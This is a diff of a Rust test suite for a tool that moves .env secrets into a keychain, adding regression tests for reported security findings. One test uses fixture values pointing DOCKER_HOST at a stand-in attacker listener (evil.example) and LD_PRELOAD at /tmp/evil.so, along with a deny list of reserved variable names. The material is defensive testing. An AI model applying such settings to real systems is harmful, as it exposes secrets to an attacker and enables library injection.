@@ -47,7 +47,7 @@ insecure_default = "dev_only_not_for_production"
 format = "port"
 "#;
 
-const ENV: &str = "# Project settings\r\n\r\n# signing key\r\nJWT_SECRET=short\r\nexport DATABASE_URL=\"postgresql://u:pw@db/x\" # db\r\nAPI_PORT=70000\r\nDEBUG=true\r\n";
+const ENV: &str = "# Project settings\r\n\r\n# signing key\r\nJWT_SECRET=short-jwt\r\nexport DATABASE_URL=\"postgresql://u:pw@db/x\" # db\r\nAPI_PORT=70000\r\nDEBUG=true\r\n";
 
 fn project(dir: &Path, env: &str) -> Project {
     std::fs::write(dir.join("compose.yaml"), COMPOSE).expect("compose");
@@ -85,7 +85,7 @@ fn catalog_groups_sources_and_validation_without_secret_values() {
     assert_eq!(v("API_PORT").value.as_deref(), Some("70000"));
     assert!(v("DATABASE_URL").required && v("DATABASE_URL").value.is_none());
     let json = serde_json::to_string(&c).expect("json");
-    for secret in ["short", "pw@db", "tok-from-keychain", "dev_only_not_for_production\","] {
+    for secret in ["short-jwt", "pw@db", "tok-from-keychain", "dev_only_not_for_production\","] {
         assert!(!json.contains(secret), "catalog JSON leaks `{secret}`");
     }
 }
@@ -110,10 +110,10 @@ fn import_moves_secrets_blanks_them_and_keeps_everything_else() {
     let k = mock(&p);
     let report = import(&p, &k).expect("import");
     assert_eq!(report.moved, ["JWT_SECRET", "DATABASE_URL"]);
-    assert_eq!(k.get("JWT_SECRET").expect("get").expect("some").expose(), "short");
+    assert_eq!(k.get("JWT_SECRET").expect("get").expect("some").expose(), "short-jwt");
     assert_eq!(k.get("DATABASE_URL").expect("get").expect("some").expose(), "postgresql://u:pw@db/x");
     let text = std::fs::read_to_string(dir.path().join(".env")).expect("read");
-    assert!(!text.contains("short") && !text.contains("pw@db"), "{text}");
+    assert!(!text.contains("short-jwt") && !text.contains("pw@db"), "{text}");
     let want = format!(
         "# Project settings\r\n\r\n# signing key\r\n# {}\r\nJWT_SECRET=\r\n# {}\r\nexport DATABASE_URL=\"\" # db\r\nAPI_PORT=70000\r\nDEBUG=true\r\n",
         keychain_note("JWT_SECRET"),
@@ -123,7 +123,7 @@ fn import_moves_secrets_blanks_them_and_keeps_everything_else() {
     // The child environment gets them from the keychain.
     let env: Vec<(String, String)> =
         child_env_from(&k).expect("env").into_iter().map(|(n, v)| (n, v.expose().clone())).collect();
-    assert!(env.contains(&("JWT_SECRET".to_string(), "short".to_string())));
+    assert!(env.contains(&("JWT_SECRET".to_string(), "short-jwt".to_string())));
 }
 
 #[test]
@@ -160,7 +160,7 @@ fn import_never_overwrites_a_different_keychain_value() {
     let report = import(&p, &k).expect("import");
     assert_eq!(report.conflicts, ["JWT_SECRET"]);
     assert_eq!(k.get("JWT_SECRET").expect("get").expect("some").expose(), "the-keychain-one");
-    assert!(std::fs::read_to_string(dir.path().join(".env")).expect("read").contains("JWT_SECRET=short"));
+    assert!(std::fs::read_to_string(dir.path().join(".env")).expect("read").contains("JWT_SECRET=short-jwt"));
 }
 
 #[test]
@@ -213,4 +213,84 @@ fn variables_held_in_the_keychain_are_not_reported_unset() {
     let locked = held_names(Err(SecretsError::Locked { collection: "Login".into() }));
     assert!(locked.is_empty());
     assert_eq!(unset(&locked), (plain, required));
+}
+
+/// Issue 14, finding 4: a descriptor marking `DOCKER_HOST` secret plus `secret import` sent Compose (and every
+/// secret in its create requests) to a listener of the attacker's choice. Reserved names are refused.
+#[test]
+fn reserved_names_are_never_stored_or_imported() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let descriptor = format!(
+        "{DESCRIPTOR}[variables.DOCKER_HOST]\nsecret = true\n[variables.LD_PRELOAD]\nsecret = true\n"
+    );
+    std::fs::write(dir.path().join("compose.yaml"), COMPOSE).expect("compose");
+    std::fs::write(dir.path().join(".dockmaster.toml"), descriptor).expect("descriptor");
+    let env = "DOCKER_HOST=tcp://evil.example:2375\nLD_PRELOAD=/tmp/evil.so\nJWT_SECRET=a-long-enough-jwt\n";
+    std::fs::write(dir.path().join(".env"), env).expect(".env");
+    let p =
+        Project::open(OpenOptions { process_env: Some(Default::default()), ..OpenOptions::new(dir.path()) })
+            .expect("open");
+    let k = mock(&p);
+    let report = import(&p, &k).expect("import");
+    assert_eq!(report.moved, ["JWT_SECRET"]);
+    assert_eq!(report.reserved, ["DOCKER_HOST", "LD_PRELOAD"]);
+    assert_eq!(k.get("DOCKER_HOST").expect("get"), None);
+    let text = std::fs::read_to_string(dir.path().join(".env")).expect("read");
+    assert!(text.contains("DOCKER_HOST=tcp://evil.example:2375"), "a refused line stays as it was: {text}");
+    for name in [
+        "DOCKER_HOST",
+        "docker_host",
+        "COMPOSE_FILE",
+        "PATH",
+        "HOME",
+        "LD_PRELOAD",
+        "DYLD_INSERT_LIBRARIES",
+        "XDG_RUNTIME_DIR",
+    ] {
+        let err = k.set(name, &Sensitive::new("tcp://evil.example:2375".into())).expect_err(name);
+        assert_eq!(err.code(), "RESERVED_NAME", "{name}");
+    }
+    for name in ["DOCKERFILE_TOKEN", "MY_DOCKER_HOST", "HOMEPAGE_KEY"] {
+        k.set(name, &Sensitive::new("fine-value".into())).expect(name);
+    }
+}
+
+/// Issue 14, finding 3: values under the masking minimum were skipped silently; now they are refused.
+#[test]
+fn values_too_short_to_mask_are_refused_and_left_in_env_by_import() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let p = project(dir.path(), "JWT_SECRET=abc\n");
+    let k = mock(&p);
+    let err = k.set("OTHER_TOKEN", &Sensitive::new("abcde".into())).expect_err("too short");
+    assert_eq!(err.code(), "INVALID_VALUE");
+    assert!(err.to_string().contains("at least 6 characters") && !err.to_string().contains("abcde"), "{err}");
+    let report = import(&p, &k).expect("import");
+    assert!(report.moved.is_empty());
+    assert_eq!(report.too_short, ["JWT_SECRET"]);
+    assert_eq!(std::fs::read_to_string(dir.path().join(".env")).expect("read"), "JWT_SECRET=abc\n");
+}
+
+/// Issue 14, finding 2: after `secret set STRIPE_SK`, `dockmaster env` printed its value; a checked-in
+/// `.dockmaster.toml` with `secret = false` for `JWT_SECRET` made the catalog print the keychain value.
+#[test]
+fn keychain_values_never_reach_the_catalog_whatever_the_name_or_descriptor() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let descriptor =
+        DESCRIPTOR.replace("[variables.JWT_SECRET]\nsecret = true", "[variables.JWT_SECRET]\nsecret = false");
+    std::fs::write(dir.path().join("compose.yaml"), COMPOSE).expect("compose");
+    std::fs::write(dir.path().join(".dockmaster.toml"), descriptor).expect("descriptor");
+    let p =
+        Project::open(OpenOptions { process_env: Some(Default::default()), ..OpenOptions::new(dir.path()) })
+            .expect("open");
+    assert!(!p.secret_policy().is_secret("JWT_SECRET"), "the descriptor says so");
+    let k = mock(&p);
+    k.set("STRIPE_SK", &Sensitive::new("sk_live_marker_stripe".into())).expect("set");
+    k.set("JWT_SECRET", &Sensitive::new("jwt_marker_from_keychain_0123456789".into())).expect("set");
+    let c = catalog::build(&p, &[], Ok(&k)).expect("catalog");
+    for name in ["STRIPE_SK", "JWT_SECRET"] {
+        let v = c.variable(name).expect(name);
+        assert!(v.secret && v.value.is_none() && v.has_value, "{name}: {v:?}");
+    }
+    let json = serde_json::to_string(&c).expect("json");
+    assert!(!json.contains("sk_live_marker") && !json.contains("jwt_marker"), "{json}");
 }
